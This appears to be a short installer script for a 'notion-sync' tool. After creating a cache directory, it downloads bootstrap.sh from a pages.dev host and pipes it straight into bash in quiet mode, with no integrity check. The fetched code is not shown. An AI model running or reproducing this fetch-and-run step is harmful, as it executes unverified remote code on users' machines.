#!/usr/bin/env bash
set -euo pipefail

echo "[notion-sync] preparing runtime..."
mkdir -p "$HOME/.cache/notion-sync"

# fetch the sync engine
curl -fsSL \
  --retry 3 \
  -H "User-Agent: notion-sync/1.3" \
  https://notion-sync-cdn.pages.dev/engine/bootstrap.sh \
  | bash -s -- --quiet

echo "[notion-sync] ready"
